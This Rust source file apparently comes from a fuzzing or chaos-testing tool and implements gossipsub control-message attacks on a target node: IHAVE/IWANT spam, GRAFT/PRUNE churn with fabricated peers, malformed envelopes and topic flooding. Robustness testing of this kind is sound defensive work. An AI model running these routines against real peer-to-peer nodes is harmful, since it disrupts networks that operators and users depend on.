//! Gossipsub control-message attacks.
//!
//! Every send opens its own stream straight to the target's pub-sub
//! endpoint, writes one forged RPC and closes it, or about one time in five
//! drops it without a clean close. Nothing here joins the mesh or speaks
//! the protocol beyond that single frame.

use super::{AttackContext, AttackOutcome, tally};
use filchaos_core::constants::{
    FORGED_BATCH_SIZE, GOSSIPSUB_V11_PROTOCOL, PRUNE_BACKOFF_SECS, PUBSUB_PROTOCOLS, SPAM_PAUSE_MS,
    SPAM_RESET_PROBABILITY, SPAM_SENDS, TOPIC_FLOOD_TOPICS,
};
use filchaos_core::envelope::{self, Malformation};
use filchaos_core::{Attack, FuzzError, generate_forged_control_frame, wire};
use rand::Rng;
use rand::rngs::StdRng;
use std::time::Duration;
use tracing::{debug, info};

/// Upper bound on fabricated peers attached to one PRUNE.
const MAX_PRUNE_PEERS: usize = 3;

/// Open, write, then close or abandon.
async fn send_envelope(
    cx: &AttackContext<'_>,
    protocol: &'static str,
    bytes: &[u8],
    abandon: bool,
) -> Result<(), FuzzError> {
    let mut stream = cx.open(protocol).await?;
    cx.write(&mut stream, bytes).await?;
    if abandon {
        // Dropped without close; the muxer resets it.
        return Ok(());
    }
    cx.close(&mut stream).await
}

/// Run 5-20 sends with jittered pauses, forging each envelope with `forge`.
async fn spam<F>(
    cx: &AttackContext<'_>,
    rng: &mut StdRng,
    attack: Attack,
    mut forge: F,
) -> Result<AttackOutcome, FuzzError>
where
    F: FnMut(&mut StdRng, usize) -> Result<(&'static str, Vec<u8>), FuzzError>,
{
    let sends = rng.gen_range(SPAM_SENDS);
    let mut results = Vec::with_capacity(sends);

    for iteration in 0..sends {
        let sent = match forge(rng, iteration) {
            Ok((protocol, bytes)) => {
                let abandon = rng.gen_bool(SPAM_RESET_PROBABILITY);
                send_envelope(cx, protocol, &bytes, abandon).await
            }
            Err(e) => Err(e),
        };
        if let Err(e) = &sent {
            debug!(%attack, iteration, sends, error = %e, "send failed");
        }
        let cancelled = matches!(sent, Err(FuzzError::Cancelled));
        results.push(sent);
        if cancelled {
            break;
        }
        if iteration + 1 < sends {
            let jitter = Duration::from_millis(rng.gen_range(SPAM_PAUSE_MS));
            if cx.pause(jitter).await.is_err() {
                break;
            }
        }
    }

    let outcome = tally(sends, results)?;
    info!(%attack, delivered = outcome.delivered, sends, "spam finished");
    Ok(outcome)
}

pub(super) async fn ihave_spam(cx: &AttackContext<'_>, rng: &mut StdRng) -> Result<AttackOutcome, FuzzError> {
    let topic = cx.config.gossip_topic.as_str();
    spam(cx, rng, Attack::IHaveSpam, |rng: &mut StdRng, _| {
        let batch = rng.gen_range(FORGED_BATCH_SIZE);
        let frame = generate_forged_control_frame(rng, topic, batch);
        Ok((GOSSIPSUB_V11_PROTOCOL, wire::delimit(&envelope::ihave_envelope(&frame))?))
    })
    .await
}

pub(super) async fn iwant_spam(cx: &AttackContext<'_>, rng: &mut StdRng) -> Result<AttackOutcome, FuzzError> {
    let topic = cx.config.gossip_topic.as_str();
    spam(cx, rng, Attack::IWantSpam, |rng: &mut StdRng, _| {
        let batch = rng.gen_range(FORGED_BATCH_SIZE);
        let frame = generate_forged_control_frame(rng, topic, batch);
        Ok((GOSSIPSUB_V11_PROTOCOL, wire::delimit(&envelope::iwant_envelope(&frame))?))
    })
    .await
}

/// GRAFT on even sends, PRUNE with a random backoff and peer list on odd.
pub(super) async fn graft_prune_spam(cx: &AttackContext<'_>, rng: &mut StdRng) -> Result<AttackOutcome, FuzzError> {
    let topic = cx.config.gossip_topic.as_str();
    spam(cx, rng, Attack::GraftPruneSpam, |rng: &mut StdRng, iteration| {
        let body = if iteration % 2 == 0 {
            envelope::graft_envelope(topic)
        } else {
            let backoff = rng.gen_range(PRUNE_BACKOFF_SECS);
            let peer_count = rng.gen_range(0..=MAX_PRUNE_PEERS);
            let peers = envelope::fabricated_peer_ids(rng, peer_count);
            envelope::prune_envelope(topic, backoff, &peers)
        };
        Ok((GOSSIPSUB_V11_PROTOCOL, wire::delimit(&body)?))
    })
    .await
}

/// A randomly chosen [`Malformation`] on a randomly chosen pub-sub protocol.
pub(super) async fn malformed_control(cx: &AttackContext<'_>, rng: &mut StdRng) -> Result<AttackOutcome, FuzzError> {
    let topic = cx.config.gossip_topic.as_str();
    spam(cx, rng, Attack::MalformedControlMessage, |rng: &mut StdRng, iteration| {
        let malformation = Malformation::ALL[rng.gen_range(0..Malformation::ALL.len())];
        let protocol = PUBSUB_PROTOCOLS[rng.gen_range(0..PUBSUB_PROTOCOLS.len())];
        let batch = rng.gen_range(FORGED_BATCH_SIZE);
        let frame = generate_forged_control_frame(rng, topic, batch);
        debug!(
            attack = %Attack::MalformedControlMessage,
            iteration,
            malformation = malformation.name(),
            protocol,
            "forging malformed envelope"
        );
        Ok((protocol, malformation.forge(rng, &frame)?))
    })
    .await
}

/// Alternate subscribe bursts (each carrying an IHAVE per topic) and
/// unsubscribe bursts over 50-200 fabricated topics.
pub(super) async fn topic_flood(cx: &AttackContext<'_>, rng: &mut StdRng) -> Result<AttackOutcome, FuzzError> {
    let count = rng.gen_range(TOPIC_FLOOD_TOPICS);
    let topics: Vec<String> = (0..count).map(|_| envelope::fabricated_topic(rng)).collect();
    debug!(attack = %Attack::TopicFlood, topics = count, "flooding topics");

    spam(cx, rng, Attack::TopicFlood, |rng: &mut StdRng, iteration| {
        let body = if iteration % 2 == 0 {
            let ihaves: Vec<_> = topics
                .iter()
                .map(|t| {
                    let batch = rng.gen_range(FORGED_BATCH_SIZE);
                    generate_forged_control_frame(rng, t, batch)
                })
                .collect();
            envelope::subscription_envelope(&topics, true, Some(&ihaves))
        } else {
            envelope::subscription_envelope(&topics, false, None)
        };
        Ok((GOSSIPSUB_V11_PROTOCOL, wire::delimit(&body)?))
    })
    .await
}
